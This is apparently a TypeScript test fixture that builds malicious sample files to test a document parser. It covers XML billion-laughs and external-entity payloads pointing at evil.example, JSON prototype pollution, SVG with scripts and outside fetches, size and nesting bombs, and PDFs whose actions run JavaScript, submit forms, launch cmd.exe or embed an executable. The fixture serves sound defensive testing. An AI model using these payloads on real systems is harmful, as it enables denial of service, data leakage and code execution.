/** Files that are made to break whoever opens them, written here: no file of anybody's is among them. */
import { deflateSync } from 'node:zlib';
import type { Hostile } from './documents.ts';

const xml = (content: string): Hostile => ({ mediaType: 'application/xml', content });
const json = (content: string): Hostile => ({ mediaType: 'application/json', content });
const svg = (content: string, attributes = 'width="99" height="99"'): Hostile => ({
  mediaType: 'image/svg+xml',
  content: `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" ${attributes}>${content}</svg>`,
});
const pdf = (content: string): Hostile => ({ mediaType: 'application/pdf', content });

/** A PDF of these objects, without a table of where they stand: readers look for them then. */
function pdfOf(...objects: readonly string[]): Hostile {
  const numbered = objects.map((object, n) => `${n + 1} 0 obj\n${object}\nendobj\n`);
  return pdf(`%PDF-1.7\n${numbered.join('')}trailer\n<</Root 1 0 R>>\n%%EOF`);
}
const stream = (content: string, entries = ''): string =>
  `<</Length ${content.length} ${entries}>>\nstream\n${content}\nendstream`;
const words = stream('BT /F1 24 Tf 50 100 Td (Degree) Tj ET');
const pages = '<</Type /Pages /Kids [3 0 R] /Count 1>>';
const pageWith = (entries: string, box = '[0 0 300 200]'): string =>
  `<</Type /Page /Parent 2 0 R /MediaBox ${box} /Contents 4 0 R /Resources <</Font <</F1 5 0 R>>>> ${entries}>>`;
const font = '<</Type /Font /Subtype /Type1 /BaseFont /Helvetica>>';
const onePage = (page: string, catalog = '', ...more: readonly string[]): Hostile =>
  pdfOf(`<</Type /Catalog /Pages 2 0 R ${catalog}>>`, pages, page, words, font, ...more);
const script = '<</S /JavaScript /JS (app.alert\\(1\\); this.print\\(\\))>>';
const link = (action: string): string =>
  `/Annots [<</Type /Annot /Subtype /Link /Rect [0 0 300 200] /A ${action}>>]`;
const inflated = deflateSync(Buffer.alloc(200_000_000, 32)).toString('latin1');

const entities = (levels: number, each: number): string =>
  Array.from({ length: levels }, (_, n) => `<!ENTITY e${n + 1} "${`&e${n};`.repeat(each)}">`).join('');

export const bombs: Readonly<Record<string, Hostile>> = {
  'XML: billion laughs': xml(`<!DOCTYPE a [<!ENTITY e0 "ha">${entities(12, 10)}]><a>&e12;</a>`),
  'XML: quadratic entities': xml(
    `<!DOCTYPE a [<!ENTITY b "${'b'.repeat(100_000)}">]><a>${'&b;'.repeat(30_000)}</a>`,
  ),
  'XML: outside entity': xml('<!DOCTYPE a [<!ENTITY x SYSTEM "https://evil.example/x">]><a>&x;</a>'),
  'XML: outside DTD and style': xml(
    '<?xml-stylesheet href="https://evil.example/x.xsl" type="text/xsl"?><!DOCTYPE a SYSTEM "https://evil.example/a.dtd"><a/>',
  ),
  'XML: 50,000 deep': xml(`${'<a>'.repeat(50_000)}x${'</a>'.repeat(50_000)}`),
  'XML: 20,000 attributes': xml(`<a ${Array.from({ length: 20_000 }, (_, n) => `b${n}="x"`).join(' ')}/>`),
  'XML: an attribute of 5 MB': xml(`<a b="${'x'.repeat(5_000_000)}"/>`),
  'XML: broken off': xml('<a><b>Degree</b'),
  'JSON: 100,000 deep': json('['.repeat(100_000) + ']'.repeat(100_000)),
  'JSON: __proto__': json(
    '{"__proto__": {"polluted": "yes"}, "constructor": {"prototype": {"polluted": "yes"}}}',
  ),
  'JSON: broken off': json('{"a": [1, 2'),
  'SVG: script, handlers, outside': svg(
    '<script>alert(1)</script><image href="https://evil.example/i" onload="alert(1)"/><foreignObject width="9" height="9"><iframe xmlns="http://www.w3.org/1999/xhtml" src="https://evil.example/"/></foreignObject><style>@import "https://evil.example/x.css";</style>',
    'onload="alert(1)" width="9" height="9"',
  ),
  'SVG: entities': {
    mediaType: 'image/svg+xml',
    content: `<!DOCTYPE svg [<!ENTITY e0 "ha">${entities(10, 10)}]><svg xmlns="http://www.w3.org/2000/svg"><text>&e10;</text></svg>`,
  },
  'SVG: uses of uses': svg(
    `<defs><g id="u0"><rect width="9" height="9"/></g>${Array.from({ length: 12 }, (_, n) => `<g id="u${n + 1}">${`<use href="#u${n}"/>`.repeat(10)}</g>`).join('')}</defs><use href="#u12"/>`,
  ),
  'SVG: many in a deep group': svg(`${'<g>'.repeat(990)}${'<a/>'.repeat(110_000)}${'</g>'.repeat(990)}`),
  'SVG: uses itself': svg('<g id="a"><use href="#a"/></g>'),
  'SVG: 900 million wide': svg('<rect width="9" height="9"/>', 'width="900000000" height="900000000"'),
  'HTML: 50,000 deep': { mediaType: 'text/html', content: `<!doctype html>${'<div>'.repeat(50_000)}x` },
  'HTML: 100,000 elements': {
    mediaType: 'text/html',
    content: `<!doctype html>${'<p>x</p>'.repeat(100_000)}`,
  },
  'HTML: an attribute of 1 MB': {
    mediaType: 'text/html',
    content: `<!doctype html><p title="${'x'.repeat(1_000_000)}">x</p>`,
  },
  'HTML: 5 MB': { mediaType: 'text/html', content: `<!doctype html>${'x '.repeat(2_500_000)}` },
  'text: 10 MB': { mediaType: 'text/plain', content: `${'Degree certificate '.repeat(5)}\n`.repeat(104_000) },
  'text: 5 MB in one line': { mediaType: 'text/plain', content: 'x'.repeat(5_000_000) },
  'text: marks upon marks': { mediaType: 'text/plain', content: `Z${'\u0301\u0316\u0489'.repeat(100_000)}` },
  'CSV: 10 MB': { mediaType: 'text/csv', content: 'Aino,Virtanen,2001-05-14,"a, b"\n'.repeat(320_000) },
  'CSV: a million columns': { mediaType: 'text/csv', content: ','.repeat(1_000_000) },
  'CSV: a quote that is not closed': { mediaType: 'text/csv', content: `a,"b\n${'c,d\n'.repeat(100_000)}` },
  'CSV: a value of 5 MB': { mediaType: 'text/csv', content: `a,"${'x'.repeat(5_000_000)}"\nb,c` },
  'PDF: script on opening': onePage(pageWith(`/AA <</O ${script}>>`), `/OpenAction ${script}`),
  'PDF: script in its names': onePage(pageWith(''), `/Names <</JavaScript <</Names [(a) ${script}]>>>>`),
  'PDF: link to a script': onePage(pageWith(link('<</S /URI /URI (javascript:alert\\(1\\))>>'))),
  'PDF: link elsewhere': onePage(pageWith(link('<</S /URI /URI (https://evil.example/)>>'))),
  'PDF: goes elsewhere on opening': onePage(
    pageWith(''),
    '/OpenAction <</S /URI /URI (https://evil.example/)>>',
  ),
  'PDF: sends a form': onePage(
    pageWith(link('<</S /SubmitForm /F (https://evil.example/) /Fields []>>')),
    '/AcroForm <</Fields []>>',
  ),
  'PDF: starts a program': onePage(pageWith(''), '/OpenAction <</S /Launch /F (cmd.exe)>>'),
  'PDF: an attachment': onePage(
    pageWith(''),
    '/Names <</EmbeddedFiles <</Names [(x.exe) 6 0 R]>>>>',
    '<</Type /Filespec /F (x.exe) /EF <</F 7 0 R>>>>',
    stream('MZ', '/Type /EmbeddedFile'),
  ),
  'PDF: pages in a loop': pdfOf(
    '<</Type /Catalog /Pages 2 0 R>>',
    '<</Type /Pages /Kids [3 0 R] /Count 2>>',
    '<</Type /Pages /Parent 2 0 R /Kids [2 0 R] /Count 1>>',
  ),
  'PDF: a page of 10 km': onePage(pageWith('', '[0 0 30000000 30000000]')),
  'PDF: a page without extent': onePage(pageWith('', '[0 0 0 0]')),
  'PDF: says it has a billion pages': pdfOf(
    '<</Type /Catalog /Pages 2 0 R>>',
    '<</Type /Pages /Kids [3 0 R] /Count 1000000000>>',
    pageWith(''),
    words,
    font,
  ),
  'PDF: deflate bomb': pdfOf(
    '<</Type /Catalog /Pages 2 0 R>>',
    pages,
    pageWith(''),
    stream(inflated, '/Filter /FlateDecode'),
    font,
  ),
  'PDF: a form within itself': pdfOf(
    '<</Type /Catalog /Pages 2 0 R>>',
    pages,
    '<</Type /Page /Parent 2 0 R /MediaBox [0 0 300 200] /Contents 4 0 R /Resources <</XObject <</X 5 0 R>>>>>>',
    stream('/X Do'),
    stream('/X Do', '/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources <</XObject <</X 5 0 R>>>>'),
  ),
  'PDF: broken off': pdf('%PDF-1.7\n1 0 obj\n<</Type /Cata'),
  'PDF and HTML at once': pdf('%PDF-1.7\n<!doctype html><script>alert(1)</script>'),
  'HTML that calls itself a PDF': pdf('<!doctype html><script>alert(1)</script>'),
};
